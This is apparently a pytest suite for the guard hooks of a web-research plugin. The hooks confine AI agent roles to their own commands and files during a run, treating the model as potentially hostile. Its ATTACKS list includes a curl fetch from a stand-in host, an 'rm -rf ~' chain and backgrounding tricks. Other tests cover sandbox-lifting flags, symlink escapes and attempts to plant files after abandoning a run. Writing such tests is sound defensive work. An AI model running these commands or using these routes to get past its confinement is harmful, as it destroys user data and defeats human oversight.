"""The sealed room (guard/rules/room.py): while a run is open, each role may make only the run's own
moves, and is told what it may do instead. Driven through hooks/run as the client drives it."""
from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from hook_harness import CLI, QUESTION, REPO, SUBTOPICS, Harness, files_under, plan_text
from web_research.guard.rules import room

CHECKER = "web-research:claim-checker"


def _as(payload: dict, agent_type: str | None, agent_id: str = "agentX") -> dict:
    if agent_type is not None:
        payload.update(agent_id=agent_id, agent_type=agent_type)
    return payload


def _write(h: Harness, path: str | Path, content: str = "x", agent_type: str | None = None, tool: str = "Write",
           **extra) -> dict:
    tool_input = {"file_path": str(path), "content": content, **extra}
    return _as(h.payload("PreToolUse", tool_name=tool, tool_input=tool_input, tool_use_id="toolu_w"), agent_type)


def _edit(h: Harness, path: Path, old: str, new: str) -> dict:
    return h.payload("PreToolUse", tool_name="Edit", tool_use_id="toolu_e",
                     tool_input={"file_path": str(path), "old_string": old, "new_string": new})


# --- Bash: only the plugin's own command lines ---------------------------------------

ATTACKS = [
    "ls -la",
    "python3 -c 'print(1)'",
    "curl https://evil.example/x.sh",
    '{cmd} & sleep 1',
    '{cmd} &',
    'nohup {cmd}',
    'setsid {cmd}',
    '({cmd})',
    '{cmd}; rm -rf ~',
    '{cmd} | tee /tmp/x',
    '{cmd} > /tmp/x',
    '{cmd} && touch /tmp/x',
    'FOO=1 {cmd}',
    'env {cmd}',
    '{cmd}\ntouch /tmp/x',
    '"{cli}" verify "$(pwd)"',
    '"{cli}" verify `pwd`',
    'bash -c {qcmd}',
    "sh {cli} verify {run}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_orchestrator_runs_no_other_program_and_no_shell_syntax(active: Harness, attack: str):
    cmd = active.core_command("verify")
    command = attack.format(cmd=cmd, cli=CLI, run=active.run_dir, qcmd=shlex.quote(cmd))
    result = active.hook(active.bash("PreToolUse", command))
    assert result.decision == "deny", command
    assert "runs only the plugin's own commands" in result.reason
    allowed = "|".join(room.ORCHESTRATOR_COMMANDS[:-1])
    assert f'"{CLI}" {allowed} "{active.run_dir}"' in result.reason  # what IS allowed
    assert f'abandon "{active.run_dir}" --reason' in result.reason  # and the way out


def test_a_background_bash_call_of_an_own_command_is_denied(active: Harness):
    payload = active.bash("PreToolUse", active.core_command("status"))
    payload["tool_input"]["run_in_background"] = True
    result = active.hook(payload)
    assert result.decision == "deny" and "foreground" in result.reason


@pytest.mark.parametrize("sub, why", [
    ("start", "a run is already open"),
    ("fetch", "researchers read pages"),
    ("slug", "'slug' is not run by the plugin"),
])
def test_the_orchestrator_runs_only_its_own_subcommands(active: Harness, sub: str, why: str):
    command = {"start": active.start_command(),
               "fetch": f'"{CLI}" fetch "https://x.example/" --run "{active.run_dir}"',
               "slug": f'"{CLI}" slug "{QUESTION}"'}[sub]
    result = active.hook(active.bash("PreToolUse", command))
    assert result.decision == "deny" and why in result.reason, result.reason


def test_recheck_is_a_persons_command_denied_in_a_run_to_every_role(active: Harness):
    command = f'"{CLI}" recheck "{active.run_dir}"'
    result = active.hook(active.bash("PreToolUse", command))
    assert result.decision == "deny"
    assert "recheck is a person's command, not a step of research" in result.reason
    assert "runs only when no research run is open" in result.reason and "abandon" in result.reason
    other = active.hook(active.bash("PreToolUse", f'"{CLI}" recheck "{active.project}" --json'))
    assert other.decision == "deny" and "a person's command" in other.reason
    researcher = active.hook(_as(active.bash("PreToolUse", command), "web-research:researcher"))
    assert researcher.decision == "deny"


def test_recheck_outside_a_run_is_left_alone_before_and_after(h: Harness):
    command = f'"{CLI}" recheck "{h.run_dir}"'
    assert h.hook(h.bash("PreToolUse", command)).stdout == ""
    assert h.hook(h.bash("PostToolUse", command, "Summary: 9 citations: 9 unchanged")).stdout == ""
    assert h.record() is None


def test_own_commands_on_the_run_folder_are_allowed_in_any_spelling_of_its_path(active: Harness):
    dotted = f"{active.run_dir}/../{active.run_dir.name}"
    for command in (active.core_command("verify"), f'"{CLI}" gaps "{dotted}" --json',
                    f'"{CLI}" claims "{active.run_dir}" --prompt', f'"{CLI}" view "{active.run_dir}" --open',
                    f'"{CLI}" abandon "{active.run_dir}" --reason "the person said stop"'):
        assert active.hook(active.bash("PreToolUse", command)).decision == "allow", command


@pytest.mark.parametrize("agent_type, why", [(CHECKER, "runs no command"), ("general-purpose", "runs none")])
def test_checkers_and_other_agents_run_no_command(active: Harness, agent_type: str, why: str):
    payload = _as(active.bash("PreToolUse", active.core_command("verify")), agent_type)
    result = active.hook(payload)
    assert result.decision == "deny" and why in result.reason


# --- writes: each role's own file, resolved --------------------------------------------

def test_the_orchestrator_writes_the_plan_until_briefs_then_only_the_second_wave(active: Harness):
    plan = active.run_dir / "plan.md"
    text = plan_text(SUBTOPICS[:2])
    first = active.hook(_write(active, plan, text))  # before briefs: the plan is free, completed from start
    assert first.decision == "allow", first.stdout
    assert first.json["hookSpecificOutput"]["updatedInput"]["content"].startswith(
        "## Research question\n\n" + QUESTION + "\n\n## Subtopics\n")
    active.render_briefs(SUBTOPICS[:2])
    current = plan.read_text()
    second = current.rstrip("\n") + "\n\n## Second wave\n\n### Another angle\n- 1.1: other sources\n"
    assert active.hook(_write(active, plan, second)).stdout == ""  # appending the section
    assert active.hook(_edit(active, plan, "Compare the vendors", "Contrast the vendors")).decision == "deny"
    changed = active.hook(_write(active, plan, current.replace("Billing units", "Pricing")))
    assert changed.decision == "deny" and "change nothing above '## Second wave'" in changed.reason
    plan.write_text(second)
    assert active.hook(_edit(active, plan, "other sources", "vendor forums")).stdout == ""  # revising it
    assert active.hook(_write(active, plan, current)).stdout == ""  # skipping it: the section removed


def test_the_plan_is_final_once_the_second_wave_is_rendered(active: Harness):
    from web_research.run.resume import record_approval

    active.render_briefs(SUBTOPICS[:2])
    plan = active.run_dir / "plan.md"
    plan.write_text(plan.read_text() + "\n## Second wave\n\n### Another angle\n- 1.1: other sources\n")
    record_approval(active.run_dir, {})  # what `briefs` records when it renders the second wave
    result = active.hook(_edit(active, plan, "other sources", "vendor forums"))
    assert result.decision == "deny" and "plan.md is final" in result.reason


def test_the_orchestrator_writes_no_other_file_anywhere(active: Harness):
    active.render_briefs(SUBTOPICS[:1])
    for path in (active.project / "main.py", active.home / ".bashrc", active.run_dir / "notes.md",
                 active.run_dir / "sources" / "0123456789abcdef.txt", active.run_dir / ".web-research" / "x.json"):
        for tool in ("Write", "Edit", "MultiEdit", "NotebookEdit"):
            key = "notebook_path" if tool == "NotebookEdit" else "file_path"
            payload = active.payload("PreToolUse", tool_name=tool, tool_use_id="t", tool_input={key: str(path)})
            result = active.hook(payload)
            assert result.decision == "deny" and "the main session writes only" in result.reason, (tool, path)


def test_a_write_is_judged_by_the_real_file_it_reaches(active: Harness):
    report = active.run_dir / "report.md"
    assert active.hook(_write(active, active.run_dir / "findings" / ".." / "report.md")).stdout == ""
    outside = active.home / "elsewhere.md"
    link = active.run_dir / "report-link.md"
    link.symlink_to(outside)
    assert active.hook(_write(active, link)).decision == "deny"
    (active.run_dir / "alias").symlink_to(active.run_dir)
    assert active.hook(_write(active, active.run_dir / "alias" / "report.md")).stdout == ""  # the same file
    report.symlink_to(outside)  # report.md itself a link elsewhere: not report.md any more
    assert active.hook(_write(active, report)).decision == "deny"


@pytest.mark.parametrize("path, cwd", [("report.md\x00x", None), ("report.md", "relative/cwd"), ("", None)])
def test_a_path_that_cannot_be_resolved_safely_is_denied(active: Harness, path: str, cwd):
    payload = _write(active, path)
    if cwd is not None:
        payload["cwd"] = cwd
    result = active.hook(payload)
    assert result.decision == "deny", result


def test_nobody_writes_the_plugin_folder_or_its_data_or_cache(active: Harness):
    cache_pointer = active.home / ".cache" / "web-research" / "python-123"
    targets = [REPO / "scripts" / "web_research" / "guard" / "room.py", cache_pointer,
               active.data / "sessions" / f"{active.sid}.json", active.tmp / "state" / "env" / "python-1"]
    for target in targets:
        for agent_type in (None, "web-research:researcher", CHECKER):
            result = active.hook(_write(active, target, agent_type=agent_type),
                                 WEB_RESEARCH_STATE_DIR=str(active.tmp / "state"))
            assert result.decision == "deny", (target, agent_type)
            assert "plugin's own folder or its data or cache folders" in result.reason
            for secret in (str(active.data), str(active.home / ".cache"), str(active.tmp / "state")):
                assert secret not in result.reason


def test_other_agents_write_nothing(active: Harness):
    result = active.hook(_write(active, active.run_dir / "report.md", agent_type="general-purpose"))
    assert result.decision == "deny" and "this agent writes none" in result.reason


# --- Agent and other tools ----------------------------------------------------------------

def test_only_the_main_session_dispatches_and_only_the_plugins_agents(active: Harness):
    infos = active.render_briefs(SUBTOPICS[:1])
    nested = _as(active.agent_call(active.prompt_for(infos[0]), "toolu_n"), "web-research:researcher")
    assert active.hook(nested).decision == "deny"
    task = active.agent_call("do the research yourself", "toolu_t")
    task["tool_name"] = "Task"
    task["tool_input"]["subagent_type"] = "general-purpose"
    result = active.hook(task)
    assert result.decision == "deny" and "web-research:claim-checker" in result.reason


@pytest.mark.parametrize("field, value", [("resume", "agentA"), ("isolation", "remote"), ("name", "scout"),
                                          ("cwd", "/tmp"), ("team_name", "t"), ("continue_agent", True)])
def test_an_agent_call_only_starts_an_agent(active: Harness, field: str, value: object):
    """An Agent call carries only the fields that start a new agent: `resume` (re-entering a
    researcher whose reply was already written and sealed), isolation, a name, a folder, and any
    field a later client adds are refused, for a researcher and a claim-checker alike."""
    infos = active.render_briefs(SUBTOPICS[:2])
    call = active.agent_call(active.prompt_for(infos[1]), "toolu_r")
    call["tool_input"][field] = value
    result = active.hook(call)
    assert result.decision == "deny" and field in result.reason, result.stdout
    assert active.record()["run"]["dispatches"] == {}
    check = active.agent_call(f"Check: {active.run_dir}", "toolu_c")
    check["tool_input"].update({"subagent_type": CHECKER, field: value})
    assert active.hook(check).decision == "deny"
    del call["tool_input"][field]
    assert active.hook(call).decision == "allow"  # the same call without it


def test_the_sandbox_is_never_lifted_for_the_plugins_commands(h: Harness):
    """The hooks approve our command lines without asking the person, so a call that also asks to
    run outside the client's sandbox is refused: start, the orchestrator's commands, a fetch."""
    start = h.bash("PreToolUse", h.start_command())
    start["tool_input"]["dangerouslyDisableSandbox"] = True
    result = h.hook(start)
    assert result.decision == "deny" and "dangerouslyDisableSandbox" in result.reason
    h.start_run()
    infos = h.render_briefs(SUBTOPICS[:1])
    status = h.bash("PreToolUse", h.core_command("status"))
    fetch = h.bash("PreToolUse", f'"{CLI}" fetch "https://x.example/" --run "{h.run_dir}"', agent_id="agentA")
    h.start_agent("agentA", h.prompt_for(infos[0]))
    for call in (status, fetch):
        assert h.hook(call).decision == "allow"
        call["tool_input"]["dangerouslyDisableSandbox"] = True
        result = h.hook(call)
        assert result.decision == "deny" and "dangerouslyDisableSandbox" in result.reason, result.stdout


# Every tool without a rule of its own: the built-ins of client 2.1.328 that do more than read
# (Skill and SlashCommand, stopping a task, messaging or scheduling agents, worktrees, monitors,
# workflows, plan mode) and a tool a later client might add.
UNLISTED = ["mcp__files__write_file", "mcp__shell__run", "Skill", "SlashCommand", "TaskStop", "KillShell",
            "SendMessage", "TaskCreate", "TaskUpdate", "CronCreate", "CronDelete", "ScheduleWakeup", "Workflow", "EnterWorktree",
            "ExitWorktree", "Monitor", "ExitPlanMode", "EnterPlanMode", "ReportFindings", "FrobnicateLater"]


@pytest.mark.parametrize("tool", UNLISTED)
def test_every_tool_not_allowed_is_denied_in_a_run_only_with_what_is_allowed(h: Harness, tool: str):
    payload = h.payload("PreToolUse", tool_name=tool, tool_input={"skill": "other", "path": "/tmp/x"},
                        tool_use_id="toolu_m")
    assert h.hook(payload).stdout == "" and files_under(h.data) == []  # no run: the shell exits
    h.start_run()
    result = h.hook(payload)
    assert result.decision == "deny" and tool in result.reason, result.reason
    assert "Allowed: the read-only tools (" in result.reason and "report.md" in result.reason
    assert "abandon" in result.reason


@pytest.mark.parametrize("agent_type,allowed", [("web-research:researcher", "fetch command"),
                                                (CHECKER, "in your reply"), ("general-purpose", "nothing else")])
def test_a_subagent_is_told_its_own_moves_and_no_way_out(active: Harness, agent_type: str, allowed: str):
    for tool in ("Skill", "TaskStop", "mcp__files__write_file"):
        payload = _as(active.payload("PreToolUse", tool_name=tool, tool_input={}, tool_use_id="toolu_s"),
                      agent_type)
        result = active.hook(payload)
        assert result.decision == "deny" and allowed in result.reason and "abandon" not in result.reason


def test_read_only_tools_stay_free(active: Harness):
    for tool in sorted(room.FREE_TOOLS):
        for agent_type in (None, "web-research:researcher", CHECKER, "general-purpose"):
            payload = _as(active.payload("PreToolUse", tool_name=tool, tool_input={"file_path": str(active.run_dir)},
                                         tool_use_id="toolu_r"), agent_type)
            assert active.hook(payload).stdout == "", (tool, agent_type)
    assert not room.FREE_TOOLS & {"WebSearch", "WebFetch", "Bash", "Write", "Agent", "Skill"}


def _client_matches(matcher: str, tool: str) -> bool:
    """How client 2.1.328 reads a hooks.json matcher: none, "*" or ".*" is every tool; else a
    regex (a plain `A|B` list reads the same as one)."""
    import re

    return matcher in ("", "*", ".*") or re.search(matcher, tool) is not None


def test_pre_tool_use_sees_every_tool_once():
    """An allowlist needs the hook to see what nobody listed: one PreToolUse group, matching every
    tool name, including ones a later client adds (so no tool runs the hook twice either)."""
    groups = json.loads((REPO / "hooks" / "hooks.json").read_text())["hooks"]["PreToolUse"]
    for tool in [*UNLISTED, *sorted(room.FREE_TOOLS), "Bash", "Agent", "Write", "WebFetch", "mcp__a__b"]:
        assert sum(_client_matches(g.get("matcher", ""), tool) for g in groups) == 1, tool


def test_a_session_with_no_run_is_untouched(h: Harness):
    for payload in (h.bash("PreToolUse", "ls -la"), _write(h, h.project / "main.py"),
                    h.agent_call("anything", "toolu_1")):
        assert h.hook(payload).stdout == ""
    assert files_under(h.data) == []


# --- the way out: abandon ---------------------------------------------------------------

def _abandon(h: Harness, directory: Path | None = None, reason: str = "the person asked to stop") -> dict:
    command = f'"{CLI}" abandon "{directory or h.run_dir}" --reason "{reason}"'
    proc = h.shell(command)
    return {"proc": proc, "hook": h.hook(h.bash("PostToolUse", command, proc.stdout))}


def test_abandon_ends_the_run_and_the_stop_gate_lets_the_session_go(active: Harness):
    active.render_briefs(SUBTOPICS[:1])
    (active.run_dir / "report.md").write_text("# Broken\n")
    done = _abandon(active)
    assert done["proc"].returncode == 0, done["proc"].stderr
    out = json.loads(done["proc"].stdout)
    assert out["abandoned"] is True and out["verified"] is False
    assert "abandoned" in done["hook"].json["systemMessage"] and "not verified" in done["hook"].json["systemMessage"]
    assert "run" not in active.record()  # no run is open; the room stays shut until the turn ends
    assert [(r["outcome"], r["abandon_reason"]) for r in active.history()] == [("abandoned", "the person asked to stop")]
    assert active.hook(active.stop()).stdout == ""  # the failing report no longer holds the session
    assert active.record() is None
    assert active.hook(active.bash("PreToolUse", "ls -la")).stdout == ""  # the session is free again


def test_after_abandon_the_turn_may_only_read_or_start_again(active: Harness):
    """Between a successful abandon and the Stop of its turn nothing but reading and a new start
    runs: the model that gave up cannot plant pages and seals for a new folder in the meantime."""
    other = active.project / "planted"
    _abandon(active)
    for payload in (active.bash("PreToolUse", f"mkdir -p {other}/sources"), _write(active, other / "plan.md"),
                    active.payload("PreToolUse", tool_name="NotebookEdit", tool_input={"notebook_path": "x"}),
                    active.payload("PreToolUse", tool_name="mcp__files__write", tool_input={}),
                    active.bash("PreToolUse", f'"{CLI}" start --question "q" --output-dir "{other}"'),
                    active.payload("PreToolUse", tool_name="WebFetch", tool_input={"url": "https://example.com"})):
        result = active.hook(payload)
        assert result.decision == "deny", payload
        assert "abandoned in this turn" in result.reason and "a new start" in result.reason
    assert active.hook(active.payload("PreToolUse", tool_name="Read", tool_input={"file_path": "x"})).stdout == ""
    start = active.hook(active.bash("PreToolUse", active.start_command(other)))
    assert start.decision == "allow", start
    assert not other.exists()


def test_a_new_start_after_abandon_opens_a_new_room(active: Harness):
    other = active.project / "second"
    _abandon(active)
    active.start_run(other)
    assert active.record()["run"]["run_dir"] == str(other)
    assert active.hook(active.bash("PreToolUse", "ls -la")).decision == "deny"  # the new room's rules


def test_an_abandoned_run_never_verifies(active: Harness):
    active.copy_example_run()
    assert active.shell(active.core_command("verify")).returncode == 0
    _abandon(active)
    verify = active.shell(active.core_command("verify"))
    assert verify.returncode == 1 and "run.abandoned" in verify.stdout and "never verified" in verify.stdout
    status = active.shell(active.core_command("status"))
    assert "Abandoned: the run was abandoned at" in status.stdout and "Verify: fails" in status.stdout
    data = json.loads(active.shell(active.core_command("status") + " --json").stdout)
    assert "the person asked to stop" in data["abandoned"] and data["verify"]["passes"] is False


def test_abandon_refuses_a_folder_with_no_run_and_an_empty_reason(h: Harness):
    h.project.joinpath("empty").mkdir()
    nothing = h.shell(f'"{CLI}" abandon "{h.project / "empty"}" --reason "x"')
    assert nothing.returncode == 2 and "holds no run" in nothing.stderr
    h.start_run()
    blank = h.shell(f'"{CLI}" abandon "{h.run_dir}" --reason "   "')
    assert blank.returncode == 2 and "--reason" in blank.stderr
    assert not (h.run_dir / ".web-research" / "abandoned.json").exists()


def test_abandon_of_another_folder_leaves_the_room_open(active: Harness):
    """Abandoning some other run folder marks that folder only: the session's run, its record and
    the room around it stay as they were."""
    record = active.record()
    other = active.project / "other"
    other.mkdir()
    (other / "plan.md").write_text("# x\n")
    done = _abandon(active, other)
    assert done["proc"].returncode == 0 and json.loads(done["proc"].stdout)["run_dir"] == str(other)
    assert (other / ".web-research" / "abandoned.json").is_file()
    assert not (active.run_dir / ".web-research" / "abandoned.json").exists()
    assert done["hook"].stdout == ""  # no "run abandoned" message: the session's run is not
    assert active.record() == record and active.history() == []
    assert active.hook(active.bash("PreToolUse", "ls -la")).decision == "deny"  # the room still holds


# --- the room opens for every form of start ------------------------------------------------

def _start_forms(h: Harness) -> list[str]:
    args = f'--question "{QUESTION}" --output-dir "{h.run_dir}" --auto-proceed'
    bin_dir = h.tmp / "bin"
    bin_dir.mkdir(exist_ok=True)
    console = bin_dir / "web-research"
    if not console.exists():
        console.symlink_to(Path(sys.executable).parent / "web-research")
    return [f'"{CLI}" start {args}',
            f"{CLI} start {args}",
            f"cd {h.project} && {os.path.relpath(CLI, h.project)} start {args}",
            f"PATH={bin_dir}:$PATH web-research start {args}",
            f"cd {REPO / 'scripts'} && {sys.executable} -m web_research start {args}"]


@pytest.mark.parametrize("form", range(5))
def test_start_in_any_form_opens_the_room(h: Harness, form: int):
    command = _start_forms(h)[form]
    proc = h.shell(command)
    assert proc.returncode == 0, proc.stderr
    assert h.hook(h.bash("PostToolUse", command, proc.stdout)).stdout == ""
    assert h.record()["run"]["run_dir"] == str(h.run_dir), command
    assert h.hook(h.bash("PreToolUse", "ls")).decision == "deny"


def test_a_refused_start_in_any_form_opens_nothing(h: Harness):
    command = f'web-research start --question "{QUESTION}" --output-dir /'
    stdout = json.dumps({"error": "invalid-input", "detail": "output_dir: the filesystem root"})
    assert h.hook(h.bash("PostToolUse", command, stdout)).stdout == ""
    assert h.record() is None


def test_a_run_command_with_no_room_open_says_it_is_not_guarded(h: Harness):
    for command in (h.core_command("verify"), f"web-research status {h.run_dir}"):
        result = h.hook(h.bash("PostToolUse", command, "FAILED"))
        context = result.json["hookSpecificOutput"]["additionalContext"]
        assert "no research run is open" in context and "ran unguarded" in context, command
    assert h.hook(h.bash("PostToolUse", f'"{CLI}" slug "{QUESTION}"', "x")).stdout == ""
    assert h.hook(h.bash("PostToolUse", "ls", "x")).stdout == ""


def test_the_recogniser_reads_mentions_loosely_and_never_allows_by_them():
    from web_research.guard.commandline import mentioned_subcommand

    assert mentioned_subcommand("web-research start --args x") == "start"
    assert mentioned_subcommand('"/p/scripts/web-research" --version start') == "start"
    assert mentioned_subcommand("python -m web_research verify /x") == "verify"
    assert mentioned_subcommand("cat web-research notes") is None
    assert mentioned_subcommand(None) is None


def test_the_launcher_passes_every_start_form_to_python(h: Harness):
    """A start in a form the shell fast path did not know used to open no room at all."""
    for command in _start_forms(h):
        payload = h.bash("PostToolUse", command, json.dumps({"output_dir": str(h.run_dir),
                                                             "research_question": QUESTION}))
        done = subprocess.run([str(REPO / "hooks" / "run"), "post_tool_use"], input=json.dumps(payload),
                              text=True, env=h.env(), capture_output=True, timeout=120)
        assert done.returncode == 0
        assert h.record() is not None, command
        h.record_path.unlink()


def test_the_threat_model_is_stated_once_in_the_readme_with_what_lies_outside_a_run():
    """The README states the threat model (the person reads it there), including what a model
    outside a run can do and what that means for a resumed run's kept findings; hooks/README.md
    and the room's rules point to it instead of saying it again."""
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    section = readme.split("## What enforces the contract", 1)[1].split("\n## ", 1)[0]
    model = section.split("**Threat model.**", 1)[1].split("\n\n", 1)[0]
    for needed in ("hostile", "trusted", "Outside a run", "full powers", "run ledger", "resumed run's kept findings",
                   "`status`", "the view", "`--refresh`"):
        assert needed in model, needed
    hooks = (REPO / "hooks" / "README.md").read_text(encoding="utf-8")
    assert "../README.md#what-enforces-the-contract" in hooks
    assert "session before `start` are trusted" not in hooks  # linked, not restated
    assert "README.md, What enforces the contract" in (room.__doc__ or "")
